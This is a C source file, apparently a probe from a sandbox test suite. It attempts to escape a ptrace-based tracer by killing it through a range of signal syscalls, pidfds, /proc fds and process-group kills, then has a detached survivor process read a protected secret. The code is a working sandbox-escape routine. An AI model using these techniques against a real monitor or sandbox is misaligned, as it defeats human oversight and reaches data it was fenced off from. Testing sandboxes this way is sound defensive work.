/* tr_signal: kill the tracer, then do what it was there to stop.
 *
 *   tr_signal MODE SECRET [VICTIM]
 *
 * The target is our tracer (TracerPid in /proc/self/status).  Without a tracer (the control
 * run) a stand-in plays its part: VICTIM, a process outside the tree, or for "pgrp" a child
 * in our own process group.  Before the attack a survivor child leaves our process group
 * (setsid) and waits for the target to die; then it reads the secret.  If the tracer dies,
 * its tracees must die with it (PTRACE_O_EXITKILL): the survivor never gets to read.
 *
 * MODE: kill tkill tgkill       SIGKILL by the plain calls (guarded: EPERM)
 *       pidfd                   pidfd_open(target) + pidfd_send_signal
 *       sigqueue                rt_sigqueueinfo(target, SIGKILL, si_code SI_QUEUE)
 *       tgsigqueue              rt_tgsigqueueinfo(target, target, SIGKILL, ...)
 *       procfd                  pidfd_send_signal on an fd of /proc/<target> (a /proc
 *                               directory fd is accepted as a pidfd)
 *       pgrp                    kill(0, SIGKILL): our whole process group, the tracer's too
 *                               (and ourselves: the survivor gives the verdict)
 *       pgid                    a child leaves our process group and kills it: kill(-pgid,
 *                               SIGKILL), ourselves included
 *       thread_kill thread_tkill
 *                               kill() / tkill() of every other thread of the target (the
 *                               kernel delivers kill(TID) to the thread's whole process)
 * For the group modes, the stand-in is a child in our process group.
 * Class 6 (attacks on the tracer).  ESCAPED only when the survivor read the secret.
 */
#include "attack.h"

#include <dirent.h>
#include <sys/syscall.h>

static int gone(pid_t pid) {
    char path[64], line[256];
    snprintf(path, sizeof path, "/proc/%d/status", pid);
    FILE *f = fopen(path, "r");
    if (!f)
        return 1;
    int zombie = 0;
    while (fgets(line, sizeof line, f))
        if (!strncmp(line, "State:", 6))
            zombie = strchr(line, 'Z') != NULL || strchr(line, 'X') != NULL;
    fclose(f);
    return zombie;
}

/* kill (or tkill) every thread of PID but its leader; -1 with errno of the last failure when
 * none was signalled. */
static long thread_kill(pid_t pid, int use_tkill) {
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/task", pid);
    DIR *dir = opendir(path);
    if (!dir)
        blocked("%s: %s", path, ename(errno));
    long rc = -1;
    int err = ESRCH, others = 0;
    struct dirent *entry;
    while ((entry = readdir(dir))) {
        pid_t tid = atoi(entry->d_name);
        if (tid <= 0 || tid == pid)
            continue;
        others++;
        long r = use_tkill ? syscall(SYS_tkill, tid, SIGKILL) : kill(tid, SIGKILL);
        if (r == 0)
            rc = 0;
        else
            err = errno;
        note("%s(%d): %s", use_tkill ? "tkill" : "kill", tid, r == 0 ? "ok" : ename(errno));
    }
    closedir(dir);
    if (!others)
        blocked("the target %d has no other thread", pid);
    errno = err;
    return rc;
}

int main(int argc, char **argv) {
    if (argc < 3)
        usage("tr_signal MODE SECRET [VICTIM]");
    const char *mode = argv[1], *secret = argv[2];
    pid_t target = tracer_pid();
    int traced = target > 0;
    if (!traced) {
        if (!strcmp(mode, "pgrp") || !strcmp(mode, "pgid")) {
            target = fork();
            if (target == 0) {
                pause();
                _exit(0);
            }
        } else if (argc > 3) {
            target = atoi(argv[3]);
        } else {
            usage("the control run needs VICTIM");
        }
    }
    note("target pid %d (%s)", target, traced ? "our tracer" : "a stand-in");

    /* the survivor tells us once it is in its own session: a group kill must not reach it
     * (a fixed sleep here lost that race under load) */
    int ready[2];
    if (pipe(ready) < 0)
        blocked("pipe: %s", ename(errno));
    pid_t survivor = fork();
    if (survivor == 0) {
        setsid();
        close(ready[0]);
        close(ready[1]);
        double until = now_s() + 4;
        while (!gone(target) && now_s() < until)
            usleep(20000);
        if (!gone(target))
            _exit(0);
        int fd = open(secret, O_RDONLY);
        if (fd >= 0 && is_secret_fd(fd)) {
            printf("ESCAPED: the target died and the survivor read the secret (TracerPid %d)\n",
                   tracer_pid());
            fflush(stdout);
            _exit(42);
        }
        printf("note: the target died; the survivor could not read the secret: %s\n",
               fd < 0 ? ename(errno) : "other file");
        fflush(stdout);
        _exit(0);
    }
    close(ready[1]);
    char byte;
    while (read(ready[0], &byte, 1) < 0 && errno == EINTR)
        ;
    close(ready[0]); /* EOF: the survivor is in its own session now */

    long rc;
    siginfo_t info;
    memset(&info, 0, sizeof info);
    info.si_signo = SIGKILL;
    info.si_code = SI_QUEUE;
    info.si_pid = getpid();
    if (!strcmp(mode, "kill")) {
        rc = kill(target, SIGKILL);
    } else if (!strcmp(mode, "tkill")) {
        rc = syscall(SYS_tkill, target, SIGKILL);
    } else if (!strcmp(mode, "tgkill")) {
        rc = syscall(SYS_tgkill, target, target, SIGKILL);
    } else if (!strcmp(mode, "pidfd")) {
        int fd = syscall(SYS_pidfd_open, target, 0);
        rc = fd < 0 ? fd : syscall(SYS_pidfd_send_signal, fd, SIGKILL, NULL, 0);
    } else if (!strcmp(mode, "sigqueue")) {
        rc = syscall(SYS_rt_sigqueueinfo, target, SIGKILL, &info);
    } else if (!strcmp(mode, "tgsigqueue")) {
        rc = syscall(SYS_rt_tgsigqueueinfo, target, target, SIGKILL, &info);
    } else if (!strcmp(mode, "procfd")) {
        char path[64];
        snprintf(path, sizeof path, "/proc/%d", target);
        int fd = open(path, O_RDONLY | O_DIRECTORY);
        rc = fd < 0 ? fd : syscall(SYS_pidfd_send_signal, fd, SIGKILL, NULL, 0);
    } else if (!strcmp(mode, "pgrp")) {
        rc = kill(0, SIGKILL); /* kills us too */
    } else if (!strcmp(mode, "pgid")) {
        /* a child leaves the group (a session leader may not) and kills it, us included */
        pid_t group = getpgrp(), killer = fork();
        if (killer == 0) {
            if (setpgid(0, 0) < 0)
                blocked("setpgid: %s", ename(errno));
            long r = kill(-group, SIGKILL);
            note("kill(-%d, SIGKILL) from outside the group: %s", group,
                 r == 0 ? "ok" : ename(errno));
            _exit(r == 0 ? 0 : 1);
        }
        int st;
        waitpid(killer, &st, 0);
        rc = WIFEXITED(st) && WEXITSTATUS(st) == 0 ? 0 : -1;
        errno = EPERM;
    } else if (!strncmp(mode, "thread_", 7)) {
        rc = thread_kill(target, !strcmp(mode, "thread_tkill"));
    } else {
        usage("MODE: kill tkill tgkill pidfd sigqueue tgsigqueue procfd pgrp pgid thread_kill "
              "thread_tkill");
    }
    int err = errno;
    if (rc < 0) {
        kill(survivor, SIGKILL);
        waitpid(survivor, NULL, 0);
        blocked("%s of pid %d: %s", mode, target, ename(err));
    }
    note("%s of pid %d succeeded%s", mode, target, gone(target) ? "" : ": the target lives on");
    int status;
    waitpid(survivor, &status, 0);
    if (WIFEXITED(status) && WEXITSTATUS(status) == 42)
        exit(0); /* the survivor gave the verdict */
    blocked("the signal reached the target, but the survivor did not read the secret");
}
